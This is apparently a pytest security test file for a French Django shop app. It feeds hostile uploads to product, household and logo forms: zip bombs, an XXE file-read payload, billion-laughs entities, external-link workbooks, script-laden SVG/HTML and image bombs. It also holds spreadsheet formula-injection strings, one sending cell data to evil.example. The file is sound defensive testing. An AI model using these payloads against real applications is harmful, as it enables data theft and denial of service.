"""Hostile files sent to every upload of the project, through its pages: the product import
(CSV/XLSX), the household import (CSV/XLSX) and the shop's logo (settings page; the platform
admin's form goes through the same model validator).

Each file — too big, of another type under a reassuring name, a zip bomb (honest or lying about
its size), NUL bytes, a wrong encoding, XML entities (XXE, billion laughs), external links,
formulas — gets a clear French message on the page (never a 500); nothing is written (no import
waiting, no product, no household, no logo) and the other shop's data is untouched. Formulas
that are valid data go in and come out of every spreadsheet export as text.
"""

from __future__ import annotations

import csv
import io
import socket
import struct
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook
from PIL import Image

from cabas.gestion.beneficiaries.models import Household
from cabas.gestion.catalog.models import Product
from cabas.gestion.catalog.services import category_create, product_create
from cabas.gestion.core.models import PendingImport
from cabas.gestion.stores.models import Store
from tests.faults.test_export_injection import scan_every_export

MB = 1024 * 1024
HOUSEHOLD_HEADER = ["Nom", "Prénom", "Commune", "Adultes", "Enfants"]
PRODUCT_HEADER = ["nom", "rayon", "prix"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


# --- the files ----------------------------------------------------------------------------------
def csv_bytes(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";").writerows(rows)
    return buffer.getvalue().encode(encoding)


def xlsx_bytes(rows: list[list[Any]]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rewrite_xlsx(content: bytes, changes: dict[str, bytes]) -> bytes:
    """The same workbook with some of its parts replaced or added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename not in changes:
                target.writestr(info.filename, source.read(info.filename))
        for name, data in changes.items():
            target.writestr(name, data)
    return out.getvalue()


def honest_zip_bomb() -> bytes:
    """200 KB on the wire, 60 MB of XML once unpacked, and says so."""
    sheet = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    sheet += b" " * (60 * MB) + b"</worksheet>"
    return rewrite_xlsx(xlsx_bytes([PRODUCT_HEADER]), {"xl/worksheets/sheet1.xml": sheet})


def lying_zip_bomb() -> bytes:
    """The same bomb, whose headers claim the sheet unpacks to 1 KB."""
    content = bytearray(honest_zip_bomb())
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    # Local file header: uncompressed size at +22; central directory entry: at +24.
    struct.pack_into("<I", content, info.header_offset + 22, 1024)
    entry = content.find(b"PK\x01\x02", 0)
    while entry != -1:
        name_length = struct.unpack_from("<H", content, entry + 28)[0]
        if content[entry + 46 : entry + 46 + name_length] == info.filename.encode():
            struct.pack_into("<I", content, entry + 24, 1024)
        entry = content.find(b"PK\x01\x02", entry + 4)
    return bytes(content)


def inline_sheet(doctype: str, cells: list[str]) -> bytes:
    row = "".join(
        f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{text}</t></is></c>'
        for i, text in enumerate(cells)
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<sheetData><row r="1">{row}</row>'
        '<row r="2"><c r="A2" t="inlineStr"><is><t>&amp;x;</t></is></c></row>'
        "</sheetData></worksheet>"
    ).encode()


def xxe_xlsx(secret: Path) -> bytes:
    doctype = f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{secret}">]>'
    sheet = inline_sheet(doctype, ["nom", "rayon", "prix"]).replace(b"&amp;x;", b"&xxe;")
    return rewrite_xlsx(xlsx_bytes([PRODUCT_HEADER]), {"xl/worksheets/sheet1.xml": sheet})


def billion_laughs_xlsx() -> bytes:
    entities = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)
    )
    sheet = inline_sheet(f"<!DOCTYPE worksheet [{entities}]>", ["nom", "rayon", "prix"])
    sheet = sheet.replace(b"&amp;x;", b"&l9;")
    return rewrite_xlsx(xlsx_bytes([PRODUCT_HEADER]), {"xl/worksheets/sheet1.xml": sheet})


def external_link_xlsx(url: str) -> bytes:
    """A workbook whose cell is a formula into another workbook, at `url`, with a cached value."""
    content = xlsx_bytes([HOUSEHOLD_HEADER, ["Martin", "Jules", "Lyon", 1, 0]])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        types = archive.read("[Content_Types].xml").decode()
        workbook = archive.read("xl/workbook.xml").decode()
        rels = archive.read("xl/_rels/workbook.xml.rels").decode()
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    types = types.replace(
        "</Types>",
        '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
    )
    rels = rels.replace(
        "</Relationships>",
        f'<Relationship Id="rIdX1" Type="{ns}/externalLink" '
        'Target="externalLinks/externalLink1.xml"/></Relationships>',
    )
    workbook = workbook.replace(
        "<definedNames",
        '<externalReferences><externalReference r:id="rIdX1"/></externalReferences><definedNames',
    )
    assert "externalReferences" in workbook
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'xmlns:r="{ns}"><externalBook r:id="rId1"><sheetNames><sheetName val="Feuil1"/>'
        '</sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str">'
        "<v>Bron</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>"
    )
    link_rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{ns}/externalLinkPath" Target="{url}" '
        'TargetMode="External"/></Relationships>'
    )
    # The commune of the first line: a formula into the other workbook, cached as "Bron".
    sheet = sheet.replace(
        '<c r="C2" t="inlineStr"><is><t>Lyon</t></is></c>',
        '<c r="C2" t="str"><f>[1]Feuil1!A1</f><v>Bron</v></c>',
    )
    assert "[1]Feuil1!A1" in sheet
    return rewrite_xlsx(
        content,
        {
            "[Content_Types].xml": types.encode(),
            "xl/workbook.xml": workbook.encode(),
            "xl/_rels/workbook.xml.rels": rels.encode(),
            "xl/worksheets/sheet1.xml": sheet.encode(),
            "xl/externalLinks/externalLink1.xml": link.encode(),
            "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels.encode(),
        },
    )


def png(size: tuple[int, int] = (40, 20), mode: str = "RGB", fmt: str = "PNG") -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size).save(buffer, format=fmt)
    return buffer.getvalue()


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56 + b"\x90" * 200
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script></svg>"
)
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"

# (file name, content, what the page says): for both imports.
READ_ERROR = ("être lu", "fichier Excel (.xlsx) valide")
IMPORT_FILES = [
    ("executable.csv", ELF, "n'est pas un fichier CSV ou Excel"),
    ("programme.exe", ELF, None),
    ("page.csv", HTML, None),  # read as a header line and nothing else
    ("image.svg.csv", SVG, None),
    ("document.xlsx", PDF, READ_ERROR),
    ("image.png", png(), None),
    ("nul.csv", b"nom;rayon;prix\nRiz\x00;Epicerie;1,00\n", "n'est pas un fichier CSV ou Excel"),
    (
        "utf16.csv",
        "nom;rayon;prix\nRiz;Épicerie;1,00\n".encode("utf-16-le"),
        "n'est pas un fichier",
    ),
    ("bombe.xlsx", honest_zip_bomb(), "trop volumineux une fois décompressé"),
    ("bombe-menteuse.xlsx", lying_zip_bomb(), READ_ERROR),
    ("rires.xlsx", billion_laughs_xlsx(), READ_ERROR),
    ("vide.csv", b"", ("Le fichier est vide.", "Le fichier soumis est vide.")),
    ("tronque.xlsx", xlsx_bytes([PRODUCT_HEADER])[:300], READ_ERROR),
]


# --- helpers ----------------------------------------------------------------------------------
def other_shop_state(world: Any) -> tuple[Any, ...]:
    store = Store.objects.get(pk=world.store_b.pk)
    return (
        list(Product.objects.filter(store=store).values_list("pk", "name", "price_cents")),
        list(Household.objects.filter(store=store).values_list("pk", "last_name")),
        str(store.logo),
        store.name,
    )


@pytest.fixture
def shops(world: Any) -> Any:
    """Both shops with a rayon and a product; charlie's shop is the one that must not change."""
    for store, name in ((world.store_a, "Riz"), (world.store_b, "Pâtes")):
        rayon = category_create(store=store, name="Vrac")  # not a name the matrix builders use
        product_create(store=store, actor=None, name=name, category=rayon, price_cents=150)
    world.before_b = other_shop_state(world)
    return world


def nothing_written(world: Any, client: Client) -> None:
    assert not PendingImport.objects.exists(), "an import is waiting"
    assert Product.objects.filter(store=world.store_a).count() == 1
    assert not Household.objects.exists()
    assert other_shop_state(world) == world.before_b


def upload(client: Client, kind: str, name: str, content: bytes, status: int = 200) -> str:
    """The page's answer to the file (a product file that reads goes on to its preview)."""
    url = reverse("catalog:import_upload" if kind == "products" else "beneficiaries:import")
    response = client.post(url, {"file": SimpleUploadedFile(name, content)})
    assert response.status_code == status, (name, response.status_code)
    return response.content.decode()


# --- the imports ------------------------------------------------------------------------------
@pytest.mark.parametrize("kind", ["products", "households"])
@pytest.mark.parametrize(
    ("name", "content", "message"), IMPORT_FILES, ids=[f[0] for f in IMPORT_FILES]
)
def test_it_refuses_a_hostile_import_file_with_a_french_message_and_writes_nothing(
    shops: Any,
    alice_client: Client,
    kind: str,
    name: str,
    content: bytes,
    message: str | tuple[str, ...] | None,
) -> None:
    html = upload(alice_client, kind, name, content)
    expected = (
        message
        or {
            # Both imports read files the same way (cabas.gestion.imports).
            "programme.exe": "n'est pas un fichier CSV ou Excel",
            "page.csv": "aucune ligne",
            "image.svg.csv": "aucune ligne",
            "image.png": "n'est pas un fichier CSV ou Excel",
        }[name]
    )
    accepted = (expected,) if isinstance(expected, str) else expected
    assert any(text.replace("'", "&#x27;") in html for text in accepted), html[-3000:]
    assert "<script>alert" not in html and "onload=" not in html
    nothing_written(shops, alice_client)
    # The households' preview keeps nothing to confirm: a confirmation finds no file.
    if kind == "households":
        confirm = alice_client.post(reverse("beneficiaries:import"), {"action": "all"})
        assert "Aucun fichier en attente" in confirm.content.decode()
        nothing_written(shops, alice_client)


@pytest.mark.parametrize("kind", ["products", "households"])
def test_it_refuses_a_file_over_the_limit_without_reading_it_into_memory(
    shops: Any, alice_client: Client, kind: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # 20 MB: over every limit of the project (2 MB products, 5 MB households), over Django's
    # FILE_UPLOAD_MAX_MEMORY_SIZE (5 MB), so Django streams it to a temporary file on disk;
    # the page must refuse it from its size, never read it whole into memory.
    read: list[int] = []

    def spy(self: TemporaryUploadedFile, size: int = -1) -> bytes:
        data: bytes = self.file.read(size)
        read.append(len(data))
        return data

    monkeypatch.setattr(TemporaryUploadedFile, "read", spy, raising=False)
    header = ";".join(PRODUCT_HEADER if kind == "products" else HOUSEHOLD_HEADER) + "\n"
    content = (header + "Martin;Epicerie;1,00;1;0\n" * (20 * MB // 25)).encode()
    html = upload(alice_client, kind, "gros.csv", content)
    assert "dépasse 2 Mo" in html
    assert sum(read) < MB, f"{sum(read) / MB:.0f} MB read to refuse a 20 MB file"
    nothing_written(shops, alice_client)


@pytest.mark.parametrize("kind", ["products", "households"])
def test_it_never_resolves_an_external_entity_in_an_xlsx(
    shops: Any, alice_client: Client, kind: str, tmp_path: Path
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-7731")
    html = upload(alice_client, kind, "xxe.xlsx", xxe_xlsx(secret))
    assert "SECRET-7731" not in html
    assert any(text in html for text in (*READ_ERROR, "Colonne", "aucune ligne")), html[-2000:]
    assert all("SECRET" not in str(i.rows) for i in PendingImport.objects.all())
    PendingImport.objects.all().delete()
    assert "SECRET-7731" not in str(dict(alice_client.session))
    assert other_shop_state(shops) == shops.before_b


def test_it_never_follows_an_external_link_of_an_xlsx(shops: Any, alice_client: Client) -> None:
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(1)
        listener.settimeout(0.5)
        url = f"http://127.0.0.1:{listener.getsockname()[1]}/autre-classeur.xlsx"
        html = upload(alice_client, "households", "lien.xlsx", external_link_xlsx(url))
        with pytest.raises(TimeoutError):
            listener.accept()  # nobody came to fetch the other workbook
    # The cached value is read as data; the link itself leads nowhere.
    assert "1 ligne(s) valide(s)" in html, html[-3000:]
    assert not Household.objects.exists()
    assert other_shop_state(shops) == shops.before_b


def test_a_csv_in_windows_1252_reads_its_accents_right(shops: Any, alice_client: Client) -> None:
    content = csv_bytes(
        [HOUSEHOLD_HEADER, ["Lefèvre", "Zoé", "Saint-Étienne", "1", "0"]], encoding="cp1252"
    )
    html = upload(alice_client, "households", "foyers.csv", content)
    assert "1 ligne(s) valide(s)" in html and "Lefèvre" in html


@pytest.mark.parametrize("kind", ["products", "households"])
def test_a_file_saved_by_excel_as_unicode_text_is_read(
    shops: Any, alice_client: Client, kind: str
) -> None:
    rows = (
        [PRODUCT_HEADER, ["Sucre", "VRAC", "1,20"]]
        if kind == "products"
        else [HOUSEHOLD_HEADER, ["Lefèvre", "Zoé", "Saint-Étienne", "1", "0"]]
    )
    text = "\r\n".join("\t".join(row) for row in rows) + "\r\n"
    content = text.encode("utf-16")  # with its byte order mark, little-endian
    html = upload(alice_client, kind, "unicode.txt", content, 302 if kind == "products" else 200)
    pending = PendingImport.objects.get()
    assert sorted(pending.rows[0].values()) == sorted(rows[1])  # JSONB does not keep key order
    if kind == "households":
        assert "1 ligne(s) valide(s)" in html and "Lefèvre" in html


def test_formulas_imported_as_data_come_out_of_every_export_as_text(
    shops: Any, alice_client: Client
) -> None:
    """Formulas go in through both imports (they are valid names), are stored as they are, and
    every CSV/XLSX export of the project shows them as text; an export imported back changes
    nothing (the neutralising quote does not pile up)."""
    world = shops
    rows = [PRODUCT_HEADER] + [[text, "Vrac", "1,00"] for text in FORMULAS]
    upload(alice_client, "products", "f.csv", csv_bytes(rows), status=302)
    product_import = PendingImport.objects.get()
    alice_client.post(
        reverse("catalog:import_confirm", kwargs={"import_id": product_import.pk}),
        {"action": "all"},
    )
    names = set(Product.objects.filter(store=world.store_a).values_list("name", flat=True))
    assert set(FORMULAS) <= names
    households = [HOUSEHOLD_HEADER] + [
        [text, text, text, "1", "0"] for text in FORMULAS[:1] + ["Martin"]
    ]
    upload(alice_client, "households", "f.csv", csv_bytes(households))
    alice_client.post(reverse("beneficiaries:import"), {"action": "all"})
    assert Household.objects.filter(store=world.store_a, last_name=FORMULAS[0]).exists()

    scan = scan_every_export(alice_client, world)
    assert not scan["dangerous"], scan["dangerous"][:10]
    assert scan["hostile_seen"], sorted(scan["exports"])

    # The product export imported back: every line unchanged.
    for fmt in ("csv", "xlsx"):
        exported = alice_client.get(reverse("catalog:export", kwargs={"fmt": fmt})).content
        PendingImport.objects.all().delete()
        upload(alice_client, "products", f"export.{fmt}", exported, status=302)
        preview = alice_client.get(
            reverse("catalog:import_preview", kwargs={"import_id": PendingImport.objects.get().pk})
        )
        report = preview.context["preview"]
        assert {line.action for line in report.lines} == {"unchanged"}, fmt
    assert other_shop_state(world) == world.before_b


# --- the logo ---------------------------------------------------------------------------------
def post_logo(client: Client, name: str, content: bytes) -> Any:
    return client.post(
        reverse("stores:settings"),
        {
            "name": "Épicerie A",
            "timezone": "Europe/Paris",
            "logo": SimpleUploadedFile(name, content, "image/png"),
        },
    )


def logos_stored() -> list[str]:
    try:
        return default_storage.listdir("logos")[1]
    except FileNotFoundError:
        return []


def big_noisy_png() -> bytes:
    import random

    rng = random.Random(4)
    image = Image.frombytes("RGB", (700, 700), rng.randbytes(700 * 700 * 3))
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    assert len(buffer.getvalue()) > MB
    return buffer.getvalue()


LOGO_FILES = [
    ("script.png", SVG, "Téléversez une image valide"),
    ("page.png", HTML, "Téléversez une image valide"),
    ("programme.png", ELF, "Téléversez une image valide"),
    ("logo.svg", SVG, "Téléversez une image valide"),
    ("logo.html", png(), "extension de fichier"),
    ("logo.pdf", png(fmt="TIFF"), "PNG, JPEG, WebP ou GIF"),  # a TIFF: not for a web page
    ("tronque.png", png((400, 400))[:60], "Téléversez une image valide"),
    ("lourd.png", big_noisy_png(), "moins de 1 Mo"),
    ("bombe.png", png((12000, 12000), mode="1"), "4000 × 4000 pixels"),  # 144 Mpx, 20 KB
    ("geant.png", png((6000, 10), mode="1"), "4000 × 4000 pixels"),
]


# Django's image field warns of the bomb before the logo's own check refuses it.
@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
@pytest.mark.parametrize(("name", "content", "message"), LOGO_FILES, ids=[f[0] for f in LOGO_FILES])
def test_it_refuses_a_hostile_logo_with_a_french_message_and_stores_nothing(
    shops: Any, alice_client: Client, name: str, content: bytes, message: str
) -> None:
    stored_before = logos_stored()  # the test storage lives as long as the process
    response = post_logo(alice_client, name, content)
    assert response.status_code == 200
    html = response.content.decode()
    assert message in html, html[html.find("errorlist") - 500 :][:1500]
    assert "<script>alert" not in html
    store = Store.objects.get(pk=shops.store_a.pk)
    assert not store.logo and logos_stored() == stored_before
    assert other_shop_state(shops) == shops.before_b


def test_a_logo_is_stored_and_served_as_what_its_content_is(
    shops: Any, alice_client: Client, client: Client
) -> None:
    # A real JPEG with HTML after its end, sent as "logo.png": stored as .jpg, served as a JPEG
    # that the browser must not sniff as a page.
    content = png(fmt="JPEG") + HTML
    response = post_logo(alice_client, "logo.png", content)
    assert response.status_code == 302
    store = Store.objects.get(pk=shops.store_a.pk)
    assert store.logo.name == f"logos/{store.slug}.jpg"
    served = alice_client.get(reverse("stores:logo"))
    assert served["Content-Type"] == "image/jpeg"
    assert served["X-Content-Type-Options"] == "nosniff"
    client.force_login(shops.charlie)
    assert client.get(reverse("stores:logo")).status_code == 404
    assert other_shop_state(shops) == shops.before_b
